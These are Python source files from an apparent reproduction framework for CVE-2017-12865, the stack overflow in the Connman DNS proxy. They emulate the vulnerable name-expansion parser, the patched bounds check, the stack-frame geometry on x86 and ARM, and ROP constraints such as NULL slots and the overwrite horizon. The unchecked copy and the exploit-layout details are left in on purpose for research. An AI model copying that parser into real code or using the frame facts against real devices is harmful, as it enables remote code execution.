        if self.profile.cfi:
            self.loaded.process.cfi = ShadowStackCfi.for_loaded(self.loaded)
        self.proxy = DnsProxyCore(self.loaded, self.version, self.frame, canary,
                                  ret_guard=ret_guard)
        # The cache lives inside the process (the dns_cache_storage .bss
        # reservation), so it starts empty on every (re)boot — as it should.
        storage = self.loaded.symbol("dns_cache_storage")
        self.cache = GuestBackedDnsCache(
            self.loaded.process, storage.address, storage.size,
            observer=self.observer,
        )
        self.boots += 1
        self.crashed = False
        self._pending_id = None
        if self.observer is not None:
            kind = "daemon.boot" if self.boots == 1 else "daemon.restart"
            self.observer.emit("daemon", kind, name=self.name, boot=self.boots)
            self.observer.inc("daemon.boots")

    restart = boot

    @property
    def alive(self) -> bool:
        return not self.crashed and self.loaded is not None and self.loaded.process.alive

    @property
    def compromised(self) -> bool:
        return any(event.kind == EventKind.COMPROMISED for event in self.events)

    # -- the DNS-proxy data path ----------------------------------------------------

    def handle_upstream_reply(
        self, reply: Optional[bytes], expected_id: Optional[int] = None
    ) -> DaemonEvent:
        """Feed one upstream reply through the vulnerable parser.

        When observed, parsing runs under a ``daemon.parse`` span whose
        ``payload`` attribute snapshots the exact reply bytes.  A crash
        inside the parse therefore yields a :class:`CrashReport` whose
        causal link resolves to the offending datagram.
        """
        if self.observer is None:
            return self._handle_upstream_reply(reply, expected_id)
        tracer = self.observer.tracer
        span = tracer.start("daemon.parse", daemon=self.name,
                            bytes=0 if reply is None else len(reply))
        if reply is not None:
            from ..obs.spans import snapshot_payload

            span.attrs["payload"] = snapshot_payload(reply)
        try:
            event = self._handle_upstream_reply(reply, expected_id)
            span.attrs["outcome"] = event.kind.value
            return event
        finally:
            tracer.end(span)

    def _handle_upstream_reply(
        self, reply: Optional[bytes], expected_id: Optional[int] = None
    ) -> DaemonEvent:
        if not self.alive:
            return DaemonEvent(kind=EventKind.DROPPED, detail="daemon is down")
        if reply is None:
            return DaemonEvent(kind=EventKind.DROPPED, detail="upstream timeout")
        assert self.proxy is not None
        event = self.proxy.handle_reply(reply, expected_id=expected_id)
        self.events.append(event)
        if event.kind == EventKind.RESPONDED:
            for cached_name, address in event.cached:
                if cached_name:
                    self.cache.put(cached_name, address)
        elif event.kind in (EventKind.CRASHED, EventKind.HUNG, EventKind.COMPROMISED):
            # Crash, hang, or image replacement: the service stops serving.
            self.crashed = True
        if self.observer is not None:
            if event.kind == EventKind.COMPROMISED:
                self.observer.emit("daemon", "daemon.compromise", name=self.name,
                                   detail=event.detail[:64])
                self.observer.inc("daemon.compromises")
            elif self.crashed:
                report = self._capture_postmortem(event, reply)
                crash_detail = {"name": self.name, "outcome": event.kind.value,
                                "detail": event.detail[:64]}
                if report is not None:
                    crash_detail["postmortem"] = report.to_dict()
                self.observer.emit("daemon", "daemon.crash", **crash_detail)
                self.observer.inc("daemon.crashes")
        return event

    def _capture_postmortem(self, event: DaemonEvent, reply: bytes):
        """Attach crash forensics to a fatal event; never raises."""
        from ..obs.postmortem import capture_crash_report
        from ..obs.spans import snapshot_payload

        report = getattr(event.execution, "postmortem", None)
        if report is None and self.loaded is not None:
            report = capture_crash_report(
                self.loaded.process,
                signal=event.signal or "SIGSEGV",
                reason=event.detail,
                tracer=self.observer.tracer,
                datagram=reply,
            )
        if report is not None and report.datagram_hex is None:
            report.datagram_hex = snapshot_payload(reply)
        if report is not None:
            self.observer.record_postmortem(report)
        return report

    def handle_client_query(self, packet: bytes, upstream: Transport) -> Optional[bytes]:
        """Full proxy path: local client query -> cache or upstream -> answer.

        ``upstream`` is any :data:`Transport`; pass a
        :class:`~repro.dns.ResilientResolver` to get retry/failover and —
        when every upstream is dark — serve-stale answers from the cache.

        When observed, the whole exchange nests under a
        ``daemon.handle_query`` span — continuing the ``net.deliver``
        trace context when the query arrived over a simulated wire.
        """
        if self.observer is None:
            return self._handle_client_query(packet, upstream)
        tracer = self.observer.tracer
        span = tracer.start("daemon.handle_query", daemon=self.name,
                            bytes=len(packet))
        try:
            answer = self._handle_client_query(packet, upstream, span)
            span.attrs["answered"] = answer is not None
            return answer
        finally:
            tracer.end(span)

    def _handle_client_query(self, packet: bytes, upstream: Transport,
                             span=None) -> Optional[bytes]:
        if not self.alive:
            return None
        try:
            query = Message.decode(packet)
        except Exception:
            return None
        if query.is_response or not query.questions:
            return None
        question = query.questions[0]
        if span is not None:
            span.attrs["query"] = question.name
        cached = self.cache.get(question.name)
        if cached is not None:
            if span is not None:
                span.attrs["outcome"] = "cache-hit"
            answer = ResourceRecord.a(question.name, cached)
            return make_response(query, (answer,)).encode()
        self._pending_id = query.id
        reply = upstream(packet)
        event = self.handle_upstream_reply(reply, expected_id=self._pending_id)
        if event.kind != EventKind.RESPONDED:
            if reply is None:
                return self._stale_answer(query, question.name, upstream)
            return None
        fresh = self.cache.get(question.name)
        if fresh is not None:
            return make_response(query, (ResourceRecord.a(question.name, fresh),)).encode()
        # Parsed fine but cached under another owner (e.g. a CNAME chain):
        # dnsproxy relays the upstream response to the client verbatim.
        return reply

    def _stale_answer(self, query: Message, name: str,
                      upstream: Transport) -> Optional[bytes]:
        """Every upstream was dark: degrade gracefully to an expired entry."""
        if not (isinstance(upstream, ResilientResolver) and upstream.serve_stale):
            return None
        stale = self.cache.get_stale(name)
        if stale is None:
            return None
        upstream.note_stale_serve()
        return make_response(query, (ResourceRecord.a(name, stale),)).encode()

    # -- observability -----------------------------------------------------------------

    @property
    def last_event(self) -> Optional[DaemonEvent]:
        return self.events[-1] if self.events else None

    def status(self) -> str:
        state = "compromised" if self.compromised else ("down" if not self.alive else "running")
        return (
            f"{self.name} (connman {self.version}, {self.arch}, "
            f"protections: {self.profile.label()}) — {state}, boots={self.boots}"
        )
