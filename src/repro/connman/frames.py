"""Stack-frame geometry of ``parse_response`` on each architecture.

These models encode every frame fact the paper's exploits depend on:

* the 1024-byte ``name`` buffer and the distance to the saved return
  address (discovered with gdb in the paper, with
  :class:`repro.exploit.recon.Debugger` here);
* **ARM NULL slots** (§III-A2): two locals between the buffer and the saved
  registers that Connman checks against NULL before its ``pop {pc}`` —
  payloads must write zeros there;
* **ARM check slots** (§III-B2/C2): two caller-frame words *above* the
  return slot that ``parse_rr`` dereferences after ``get_name`` returns —
  they land on the r5/r6 placeholder positions of the first ROP frame and
  must be NULL or mapped addresses, which is why the paper's chains carry
  "placeholder" values;
* the **overwrite horizon** (§III-C2): how many bytes past the return slot
  survive until the function returns, before legitimate writes by the
  still-running daemon clobber the rest.  On ARM this is what limits the
  chain to three calls ("copy only ``sh``").
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Tuple

#: Size of the `name` buffer in parse_response (pre-defined limit, §II).
NAME_BUFFER_SIZE = 1024


@dataclass(frozen=True)
class FrameModel:
    arch: str
    #: Bytes of other locals between the end of `name` and the saved regs.
    locals_size: int
    #: Callee-saved registers restored by the epilogue, lowest address first.
    saved_registers: Tuple[str, ...]
    #: Offsets (from `name`) of locals that must be NULL before the return.
    null_slot_offsets: Tuple[int, ...]
    #: Offsets (from the return slot) that parse_rr dereferences.
    check_slot_offsets: Tuple[int, ...]
    #: Bytes past the return slot that survive; beyond this the daemon's own
    #: writes clobber the stack before the hijacked return executes.
    overwrite_horizon: int
    clobber_length: int = 64
    #: Distance from the stack top at which the frame's return slot sits.
    ret_slot_from_stack_top: int = 0x300
    #: Size of the overflowable buffer (Connman: the 1024-byte `name`).
    buffer_size: int = NAME_BUFFER_SIZE

    @property
    def saved_area_size(self) -> int:
        return 4 * len(self.saved_registers)

    @property
    def ret_offset(self) -> int:
        """Distance from the start of `name` to the saved return address."""
        return self.buffer_size + self.locals_size + self.saved_area_size

    @property
    def canary_offset(self) -> int:
        """Canary slot: just above the locals, below the saved registers."""
        return self.buffer_size + self.locals_size - 4

    def describe(self) -> str:
        return (
            f"{self.arch}: name[{self.buffer_size}] +{self.locals_size} locals "
            f"+{self.saved_area_size} saved {self.saved_registers} -> ret at "
            f"name+{self.ret_offset}, horizon {self.overwrite_horizon}"
        )


X86_FRAME = FrameModel(
    arch="x86",
    locals_size=12,
    saved_registers=("ebp",),
    null_slot_offsets=(),
    check_slot_offsets=(),
    # x86 frames gave the paper room for the full 7-character memcpy chain.
    overwrite_horizon=400,
)

ARM_FRAME = FrameModel(
    arch="arm",
    locals_size=16,
    saved_registers=("r4", "r5", "r6", "r7"),
    # Two locals checked against NULL prior to the pop {pc} (§III-A2).
    null_slot_offsets=(NAME_BUFFER_SIZE + 4, NAME_BUFFER_SIZE + 8),
    # parse_rr dereferences ret+20 and ret+24: the r5/r6 placeholder slots
    # of a first __restore_ctx frame (pops r0,r1,r2,r3 then r5 at +20).
    check_slot_offsets=(20, 24),
    # Three calls survive (2 memcpy frames + the execlp frame end at
    # ret+115); a fourth memcpy frame would start at ret+120 and is
    # clobbered — the "copy only sh" limit.
    overwrite_horizon=120,
)

FRAME_MODELS = {"x86": X86_FRAME, "arm": ARM_FRAME}


def frame_model(arch: str) -> FrameModel:
    try:
        return FRAME_MODELS[arch]
    except KeyError:
        raise ValueError(f"no frame model for architecture {arch!r}") from None
