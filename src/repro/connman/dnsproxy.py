"""The vulnerable DNS-proxy reply parser, executed against emulated memory.

This is a faithful port of the control and data flow of ``dnsproxy.c`` that
matters for CVE-2017-12865:

* header validation first — "the DNS responses must appear legitimate,
  otherwise Connman dumps the packet and never enters the vulnerable
  portion of code" (§III);
* ``get_name`` expands the (possibly compressed) answer name into the
  1024-byte ``name`` stack buffer with the unchecked copy of Listing 1::

      name[(*name_len)++] = label_len;
      memcpy(name + *name_len, p + 1, label_len + 1);
      *name_len += label_len;

  Every write lands in the emulated process stack, so an oversized
  expansion genuinely clobbers the saved registers, the return address and
  the caller frame;
* the 1.35 patch adds the size check and bails out before the buffer can
  overflow;
* ``parse_rr`` then dereferences two caller-frame words (the ARM
  "placeholder" constraint), the ARM NULL-slot checks run, the (optional)
  canary is verified, and finally the epilogue pops the — possibly
  attacker-controlled — return address into the program counter and hands
  control to the CPU emulator.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..binfmt import LoadedProcess
from ..cpu import ExecutionResult, make_emulator
from ..cpu.events import CanaryClobbered, ControlFlowViolation, EmulationBudgetExceeded
from ..defenses import ShadowStackCfi, StackCanary
from ..mem import MemoryFault
from .frames import NAME_BUFFER_SIZE, FrameModel
from .outcomes import DaemonEvent, EventKind
from .version import ConnmanVersion

#: DNS pointer-chase budget (the vulnerable code's only loop bound).
MAX_POINTER_JUMPS = 128
MAX_QUESTIONS = 4
MAX_ANSWERS = 8

TYPE_A = 1
TYPE_AAAA = 28

#: Pattern the daemon's own post-parse writes leave in the caller stack
#: beyond the overwrite horizon ("data from a subsequent legitimate
#: function reference", §III-C2).  Word-aligned but unmapped, so a ROP
#: chain that runs into it dies with SIGSEGV like the paper reports.
CLOBBER_WORD = b"\x54\x55\xaa\xaa"


class _Drop(Exception):
    """Internal: the reply is dumped as malformed; the daemon stays healthy."""

    def __init__(self, reason: str):
        self.reason = reason
        super().__init__(reason)


class _AbortPath(Exception):
    """Internal: the daemon detected corrupted state and aborted."""

    def __init__(self, reason: str):
        self.reason = reason
        super().__init__(reason)


@dataclass
class FramePlacement:
    """Concrete addresses of one parse_response activation."""

    name_address: int
    ret_slot: int

    def describe(self) -> str:
        return f"name={self.name_address:#010x} ret_slot={self.ret_slot:#010x}"


class DnsProxyCore:
    """One daemon's reply-parsing engine bound to its loaded process."""

    def __init__(
        self,
        loaded: LoadedProcess,
        version: ConnmanVersion,
        frame: FrameModel,
        canary: Optional[StackCanary] = None,
        ret_guard=None,
    ):
        self.loaded = loaded
        self.version = version
        self.frame = frame
        self.canary = canary
        #: §VII lightweight defense: saved return addresses are stored
        #: XOR-encrypted; see repro.defenses.retguard.
        self.ret_guard = ret_guard
        self.resume_address = loaded.address_of("dnsproxy_resume")
        self.globals_address = loaded.address_of("connman_globals")

    # -- frame geometry ---------------------------------------------------------

    def placement(self) -> FramePlacement:
        ret_slot = self.loaded.layout.stack_top - self.frame.ret_slot_from_stack_top
        return FramePlacement(
            name_address=ret_slot - self.frame.ret_offset, ret_slot=ret_slot
        )

    # -- entry point ---------------------------------------------------------------

    def handle_reply(self, reply: bytes, expected_id: Optional[int] = None) -> DaemonEvent:
        """Parse one upstream reply; return the observable daemon outcome."""
        try:
            self._validate_header(reply, expected_id)
        except _Drop as drop:
            return DaemonEvent(kind=EventKind.DROPPED, detail=drop.reason)

        # A reply that survived validation becomes a taint source: every
        # byte _get_name copies out of it is labeled with its wire offset.
        taint = getattr(self.loaded.process, "taint", None)
        if taint is not None:
            taint.begin_source(reply)
        try:
            place = self.placement()
            self._set_up_frame(place)
            try:
                cached = self._parse_sections(reply, place)
                self._post_parse_writes(place)
                self._null_slot_checks(place)
                self._canary_check(place)
            except _Drop as drop:
                return DaemonEvent(kind=EventKind.DROPPED, detail=drop.reason)
            except _AbortPath as bail:
                self.loaded.process.record_exit(code=134, signal="SIGABRT")
                return DaemonEvent(kind=EventKind.CRASHED, signal="SIGABRT", detail=bail.reason)
            except CanaryClobbered as smash:
                self.loaded.process.record_exit(code=134, signal="SIGABRT")
                return DaemonEvent(kind=EventKind.CRASHED, signal="SIGABRT", detail=str(smash))
            except MemoryFault as fault:
                # e.g. parse_rr dereferenced an unmapped placeholder, or the
                # expansion ran off the top of the stack segment.
                self.loaded.process.record_exit(code=139, signal=fault.signal)
                return DaemonEvent(kind=EventKind.CRASHED, signal=fault.signal, detail=str(fault))

            return self._function_return(place, cached)
        finally:
            if taint is not None:
                taint.end_source()

    # -- header validation ----------------------------------------------------------

    def _validate_header(self, reply: bytes, expected_id: Optional[int]) -> None:
        if len(reply) < 12:
            raise _Drop(f"short packet ({len(reply)} bytes)")
        message_id, flags, qdcount, ancount, _ns, _ar = struct.unpack_from(">HHHHHH", reply, 0)
        if expected_id is not None and message_id != expected_id:
            raise _Drop(f"transaction id {message_id} does not match query {expected_id}")
        if not flags & 0x8000:
            raise _Drop("QR bit clear: not a response")
        if flags & 0x000F:
            raise _Drop(f"non-zero rcode {flags & 0xF}")
        if ancount < 1:
            raise _Drop("no answer records")
        if qdcount > MAX_QUESTIONS or ancount > MAX_ANSWERS:
            raise _Drop("unreasonable section counts")

    # -- frame lifecycle ----------------------------------------------------------

    def _set_up_frame(self, place: FramePlacement) -> None:
        """Write the benign activation record for parse_response."""
        memory = self.loaded.process.memory
        frame = self.frame
        # Locals (including the ARM NULL slots) start zeroed.
        memory.write(place.name_address, b"\x00" * frame.ret_offset)
        if self.canary is not None:
            self.canary.arm_frame(
                self.loaded.process, place.name_address + frame.canary_offset
            )
        # Saved callee registers hold plausible frame-chain values.
        saved_base = place.ret_slot - frame.saved_area_size
        for index in range(len(frame.saved_registers)):
            memory.write_u32(saved_base + 4 * index, place.ret_slot + 0x40 + 4 * index)
        # The legitimate return address (encrypted when ret-guard is on).
        stored = self.resume_address
        if self.ret_guard is not None:
            stored = self.ret_guard.protect(stored)
        memory.write_u32(place.ret_slot, stored)
        # Caller-frame spills that parse_rr later dereferences: one pointer
        # into .data, one into the stack — both mapped in a benign run.
        for offset, value in zip(
            frame.check_slot_offsets, (self.globals_address, place.name_address)
        ):
            memory.write_u32(place.ret_slot + offset, value)
        # Shadow-stack bookkeeping for the simulated call of parse_response.
        cfi = self.loaded.process.cfi
        if isinstance(cfi, ShadowStackCfi):
            cfi.note_call(self.loaded.process, self.resume_address)

    # -- DNS walking ----------------------------------------------------------------

    def _parse_sections(self, reply: bytes, place: FramePlacement) -> List[Tuple[str, str]]:
        _id, _flags, qdcount, ancount, _ns, _ar = struct.unpack_from(">HHHHHH", reply, 0)
        offset = 12
        for _ in range(qdcount):
            offset = self._skip_name(reply, offset)
            offset += 4
            if offset > len(reply):
                raise _Drop("truncated question section")
        cached: List[Tuple[str, str]] = []
        for _ in range(ancount):
            offset = self._get_name(reply, offset, place.name_address)
            if offset + 10 > len(reply):
                raise _Drop("truncated resource record")
            rtype, _rclass, _ttl, rdlength = struct.unpack_from(">HHIH", reply, offset)
            offset += 10
            if offset + rdlength > len(reply):
                raise _Drop("truncated rdata")
            rdata = reply[offset : offset + rdlength]
            offset += rdlength
            if rtype == TYPE_A and rdlength == 4:
                self._parse_rr_checks(place)
                cached.append((self._read_back_name(place), ".".join(str(b) for b in rdata)))
            elif rtype == TYPE_AAAA and rdlength == 16:
                self._parse_rr_checks(place)
                cached.append((self._read_back_name(place), rdata.hex()))
        return cached

    def _skip_name(self, packet: bytes, offset: int) -> int:
        """Walk past a name without expanding it (question section)."""
        jumps = 0
        cursor = offset
        end: Optional[int] = None
        while True:
            if cursor >= len(packet):
                raise _Drop("name runs past end of packet")
            length = packet[cursor]
            if length == 0:
                return end if end is not None else cursor + 1
            if length & 0xC0 == 0xC0:
                if end is None:
                    end = cursor + 2
                jumps += 1
                if jumps > MAX_POINTER_JUMPS:
                    raise _Drop("compression pointer loop")
                if cursor + 1 >= len(packet):
                    raise _Drop("truncated pointer")
                cursor = ((length & 0x3F) << 8) | packet[cursor + 1]
                continue
            cursor += 1 + length

    def _get_name(self, packet: bytes, offset: int, name_address: int) -> int:
        """Expand a name into the stack buffer — the vulnerable routine.

        Returns the offset just past the name in the original byte stream.
        Every ``memory.write`` below is a real store into the emulated
        process stack.
        """
        memory = self.loaded.process.memory
        taint = getattr(self.loaded.process, "taint", None)

        def wire(cursor_offset: int, count: int, note: str):
            """Per-byte labels for copying wire bytes at ``cursor_offset``."""
            if taint is None:
                return None
            return taint.wire_labels(cursor_offset, count,
                                     address=name_address + name_len,
                                     note=note)

        patched = not self.version.is_vulnerable
        name_len = 0
        jumps = 0
        cursor = offset
        end: Optional[int] = None
        while True:
            if cursor >= len(packet):
                raise _Drop("name runs past end of packet")
            length = packet[cursor]
            if length == 0:
                memory.write_u8(name_address + name_len, 0,
                                taint=wire(cursor, 1, "name terminator"))
                return end if end is not None else cursor + 1
            if length & 0xC0 == 0xC0:
                if end is None:
                    end = cursor + 2
                jumps += 1
                if jumps > MAX_POINTER_JUMPS:
                    raise _Drop("compression pointer loop")
                if cursor + 1 >= len(packet):
                    raise _Drop("truncated pointer")
                cursor = ((length & 0x3F) << 8) | packet[cursor + 1]
                continue
            if length & 0xC0:
                raise _Drop(f"reserved label type {length:#04x}")
            # NOTE: no check of `length` against the 63-byte RFC limit here —
            # the vulnerable parser consumes the raw byte (up to 0xBF).
            label_length = length
            if patched and name_len + label_length + 2 > self.frame.buffer_size:
                # The 1.35 fix: refuse to expand past the buffer.
                raise _Drop("uncompressed name too long (patched bounds check)")
            # Listing 1, line by line:
            memory.write_u8(name_address + name_len, label_length,
                            taint=wire(cursor, 1, "label length"))
            name_len += 1
            chunk = packet[cursor + 1 : cursor + 1 + label_length + 1]  # +1 over-copy
            if len(chunk) < label_length:
                raise _Drop("label runs past end of packet")
            memory.write(name_address + name_len, chunk,
                         taint=wire(cursor + 1, len(chunk), "label bytes"))
            name_len += label_length
            cursor += 1 + label_length

    def _read_back_name(self, place: FramePlacement) -> str:
        """Benign read of the expanded name for the cache (bounded)."""
        process = self.loaded.process
        memory = process.memory
        taint = getattr(process, "taint", None)
        shadowed = taint is not None and taint.shadow is not None
        labels: List[str] = []
        char_labels: List = []
        cursor = place.name_address
        limit = place.name_address + self.frame.buffer_size
        while cursor < limit:
            length = memory.read_u8(cursor)
            if length == 0 or length > 63:
                break
            labels.append(memory.read(cursor + 1, length).decode("latin-1"))
            if shadowed:
                if len(labels) > 1:
                    # The '.' separator stands in for this label's length
                    # byte, so it inherits that byte's provenance.
                    char_labels.append(taint.shadow.union(cursor, 1))
                char_labels.extend(taint.shadow.read(cursor + 1, length))
            cursor += 1 + length
        name = ".".join(labels)
        if shadowed:
            # The daemon will copy this *string* (not memory) into the
            # guest cache; remember its per-character provenance so the
            # copy can be seeded (see GuestNameStore.put).
            taint.register_derived(name, char_labels)
        return name

    # -- post-parse frame interactions -------------------------------------------------

    def _parse_rr_checks(self, place: FramePlacement) -> None:
        """parse_rr dereferences its caller's spilled pointers.

        After an overflow these slots hold attacker bytes: NULL skips the
        access, a mapped address survives, anything else SIGSEGVs — the
        paper's placeholder requirement.
        """
        memory = self.loaded.process.memory
        for offset in self.frame.check_slot_offsets:
            pointer = memory.read_u32(place.ret_slot + offset)
            if pointer == 0:
                continue
            memory.read(pointer, 1)

    def _post_parse_writes(self, place: FramePlacement) -> None:
        """Legitimate daemon writes beyond the overwrite horizon (§III-C2)."""
        memory = self.loaded.process.memory
        start = place.ret_slot + self.frame.overwrite_horizon
        memory.write(start, CLOBBER_WORD * (self.frame.clobber_length // 4))

    def _null_slot_checks(self, place: FramePlacement) -> None:
        """ARM locals Connman expects to be NULL before its pop {pc} (§III-A2)."""
        memory = self.loaded.process.memory
        for offset in self.frame.null_slot_offsets:
            value = memory.read_u32(place.name_address + offset)
            if value != 0:
                raise _AbortPath(
                    f"non-NULL sentinel local at name+{offset}: {value:#010x}"
                )

    def _canary_check(self, place: FramePlacement) -> None:
        if self.canary is not None:
            self.canary.check_frame(
                self.loaded.process,
                place.name_address + self.frame.canary_offset,
                "parse_response",
            )

    # -- the epilogue: hand control to the CPU ------------------------------------------

    def _function_return(
        self, place: FramePlacement, cached: List[Tuple[str, str]]
    ) -> DaemonEvent:
        process = self.loaded.process
        memory = process.memory
        frame = self.frame
        taint = getattr(process, "taint", None)
        saved_base = place.ret_slot - frame.saved_area_size
        for index, register in enumerate(frame.saved_registers):
            process.registers[register] = memory.read_u32(saved_base + 4 * index)
            if taint is not None and taint.shadow is not None:
                # The epilogue's register restores move (possibly
                # overflowed) stack bytes into callee-saved registers.
                taint.set_reg(register,
                              taint.shadow.union(saved_base + 4 * index, 4))
        target = memory.read_u32(place.ret_slot)
        if self.ret_guard is not None:
            # The epilogue decrypts; attacker-written plaintext addresses
            # decrypt to unpredictable garbage.
            target = self.ret_guard.restore(target)
        process.sp = place.ret_slot + 4

        cfi = process.cfi
        if isinstance(cfi, ShadowStackCfi):
            try:
                cfi.check_return(process, place.ret_slot, target)
            except ControlFlowViolation as violation:
                process.record_exit(code=134, signal="SIGABRT")
                return DaemonEvent(
                    kind=EventKind.CRASHED, signal="SIGABRT", detail=str(violation)
                )

        process.pc = target
        if taint is not None and taint.shadow is not None:
            # This is Listing 1's payoff written out: the program counter
            # takes whatever the ret slot holds — wire bytes, when the
            # expansion overflowed that far.
            ret_labels = taint.shadow.union(place.ret_slot, 4)
            x86 = process.arch == "x86"
            taint.set_reg("esp" if x86 else "r13", frozenset())
            taint.set_reg("eip" if x86 else "r15", ret_labels)
            taint.note_pc_write(ret_labels, pc=target,
                                via="parse_response epilogue",
                                address=place.ret_slot)
        result = self._run_cpu()
        return self._classify(result, cached)

    def _run_cpu(self) -> ExecutionResult:
        return make_emulator(self.loaded.process).run()

    def _classify(self, result: ExecutionResult, cached: List[Tuple[str, str]]) -> DaemonEvent:
        process = self.loaded.process
        if result.reason == "daemon-continue":
            return DaemonEvent(
                kind=EventKind.RESPONDED, detail=result.detail, cached=cached,
                execution=result,
            )
        if result.reason == "execve":
            return DaemonEvent(
                kind=EventKind.COMPROMISED,
                detail=result.detail,
                spawn=process.spawns[-1] if process.spawns else None,
                execution=result,
            )
        if result.reason in ("exit", "abort"):
            signal = "SIGABRT" if result.reason == "abort" else None
            return DaemonEvent(
                kind=EventKind.CRASHED, signal=signal, detail=result.detail,
                execution=result,
            )
        if isinstance(result.fault, EmulationBudgetExceeded):
            return DaemonEvent(
                kind=EventKind.HUNG, signal=result.signal, detail=result.detail,
                execution=result,
            )
        return DaemonEvent(
            kind=EventKind.CRASHED, signal=result.signal, detail=result.detail,
            execution=result,
        )
