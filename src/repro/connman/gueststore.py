"""A DNS cache that lives inside the victim process's memory.

Real Connman keeps its dnsproxy cache in process memory; this backing
store puts ours into the emulated ``.bss`` (the ``dns_cache_storage``
reservation in the binary), so cached entries are inspectable with the
debugger, vanish with the process on crash/restart, and are — like
everything else in the image — potential raw material for exploitation.

Entry wire format, packed sequentially from the region start::

    u8  name_length        (0 terminates the table)
    u8  name[name_length]
    u8  address[4]         (IPv4)
    u32 expiry             (simulated-clock seconds)
"""

from __future__ import annotations

from typing import TYPE_CHECKING, List, Optional, Tuple

from ..cpu import Process

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector

ENTRY_OVERHEAD = 1 + 4 + 4
MAX_NAME = 255


class GuestBackedDnsCache:
    """Cache with the same interface shape as :class:`DnsCache`, stored in
    a region of the emulated address space."""

    def __init__(self, process: Process, base: int, size: int,
                 observer: Optional["Collector"] = None):
        self.process = process
        self.base = base
        self.size = size
        self.observer = observer
        self._clock = 0
        self.clear()

    def _note(self, kind: str, name: str = "") -> None:
        if self.observer is not None:
            self.observer.emit("cache", f"cache.{kind}", name=name)
            self.observer.inc(f"cache.{kind}")

    # -- clock -------------------------------------------------------------

    def advance(self, seconds: float) -> None:
        self._clock += int(seconds)

    # -- raw table walking ----------------------------------------------------

    def _entries(self) -> List[Tuple[int, str, str, int]]:
        """(offset, name, address, expiry) for every live slot."""
        memory = self.process.memory
        entries = []
        cursor = self.base
        end = self.base + self.size
        while cursor < end:
            name_length = memory.read_u8(cursor)
            if name_length == 0:
                break
            name = memory.read(cursor + 1, name_length).decode("latin-1")
            address = ".".join(
                str(byte) for byte in memory.read(cursor + 1 + name_length, 4)
            )
            expiry = memory.read_u32(cursor + 1 + name_length + 4)
            entries.append((cursor, name, address, expiry))
            cursor += ENTRY_OVERHEAD + name_length
        return entries

    def _append_offset(self) -> int:
        entries = self._entries()
        if not entries:
            return self.base
        offset, name, _address, _expiry = entries[-1]
        return offset + ENTRY_OVERHEAD + len(name)

    # -- cache interface ------------------------------------------------------------

    def put(self, name: str, address: str, ttl: int = 300) -> bool:
        """Store one entry; returns False when it cannot be stored.

        The guest table is IPv4-only (4-byte address field); AAAA results
        pass through the proxy but are not cached here.
        """
        if len(name) > MAX_NAME:
            return False
        parts = address.split(".")
        if len(parts) != 4 or not all(part.isdigit() and int(part) <= 255 for part in parts):
            return False
        encoded = name.lower().encode("latin-1")
        record_size = ENTRY_OVERHEAD + len(encoded)
        cursor = self._append_offset()
        if cursor + record_size + 1 > self.base + self.size:
            # Full: expired entries die first (they are dead weight the
            # table is still carrying); only when compaction cannot make
            # room does the connman-style wholesale flush happen.
            cursor = self._compact_expired()
            if cursor + record_size + 1 > self.base + self.size:
                self.clear()
                self._note("flush")
                cursor = self.base
        memory = self.process.memory
        taint = getattr(self.process, "taint", None)
        labels = taint.derived_labels(name) if taint is not None else None
        memory.write_u8(cursor, len(encoded))
        if labels is not None and len(labels) == len(encoded):
            # The cached name came back out of (possibly tainted) stack
            # memory; its per-character provenance follows it into .bss.
            memory.write(cursor + 1, encoded, taint=labels)
        else:
            memory.write(cursor + 1, encoded)
        memory.write(cursor + 1 + len(encoded),
                     bytes(int(part) for part in address.split(".")))
        memory.write_u32(cursor + 1 + len(encoded) + 4, self._clock + ttl)
        memory.write_u8(cursor + record_size, 0)  # table terminator
        self._note("put", name.lower())
        return True

    def _compact_expired(self) -> int:
        """Rewrite the table keeping only live entries; returns the new
        append offset."""
        live = [(name, address, expiry)
                for _offset, name, address, expiry in self._entries()
                if expiry > self._clock]
        evicted = len(self._entries()) - len(live)
        memory = self.process.memory
        cursor = self.base
        for name, address, expiry in live:
            encoded = name.encode("latin-1")
            memory.write_u8(cursor, len(encoded))
            memory.write(cursor + 1, encoded)
            memory.write(cursor + 1 + len(encoded),
                         bytes(int(part) for part in address.split(".")))
            memory.write_u32(cursor + 1 + len(encoded) + 4, expiry)
            cursor += ENTRY_OVERHEAD + len(encoded)
        memory.write_u8(cursor, 0)
        if evicted and self.observer is not None:
            self.observer.emit("cache", "cache.evict", expired=evicted)
            self.observer.inc("cache.evict", evicted)
        return cursor

    def get(self, name: str) -> Optional[str]:
        wanted = name.lower()
        for _offset, entry_name, address, expiry in self._entries():
            if entry_name == wanted and expiry > self._clock:
                self._note("hit", wanted)
                return address
        self._note("miss", wanted)
        return None

    def get_stale(self, name: str) -> Optional[str]:
        """Serve-stale lookup: ignore expiry (the entry still lives in .bss
        until the table is flushed or the process restarts)."""
        wanted = name.lower()
        for _offset, entry_name, address, _expiry in self._entries():
            if entry_name == wanted:
                self._note("stale", wanted)
                return address
        return None

    def clear(self) -> None:
        self.process.memory.write_u8(self.base, 0)

    def __len__(self) -> int:
        return sum(1 for entry in self._entries() if entry[3] > self._clock)

    def dump(self) -> str:
        """Debugger view of the guest-resident table."""
        lines = [f"dns cache @ {self.base:#010x} ({self.size:#x} bytes):"]
        for offset, name, address, expiry in self._entries():
            state = "live" if expiry > self._clock else "expired"
            lines.append(f"  +{offset - self.base:#06x} {name} -> {address} [{state}]")
        return "\n".join(lines)
