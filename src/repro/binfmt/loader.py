"""Maps a binary + libc into a fresh process, applying the protection model.

This is where the two OS defenses the paper bypasses are applied:

* **W^X** — when enabled, stack and heap are mapped RW; when disabled
  (pre-NX, or ``execstack``-style builds), they are RWX and injected
  shellcode can run from the stack;
* **ASLR** — when enabled, the libc and stack bases come pre-randomized in
  the :class:`~repro.mem.MemoryLayout`; the non-PIE main image stays put.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..cpu import NativeFunction, Process
from ..mem import AddressSpace, MemoryLayout, Perm, Segment
from .binary import Binary, relocate
from .libc import LibcImage
from .section import Symbol

#: Bytes left above the initial stack pointer for env/argv furniture.
STACK_ENVIRONMENT_RESERVE = 0x200


@dataclass
class LoadedProcess:
    """A process plus the images it was built from."""

    process: Process
    binary: Binary
    libc: Binary  # relocated copy for this instantiation
    layout: MemoryLayout
    wx_enabled: bool

    def symbol(self, name: str) -> Symbol:
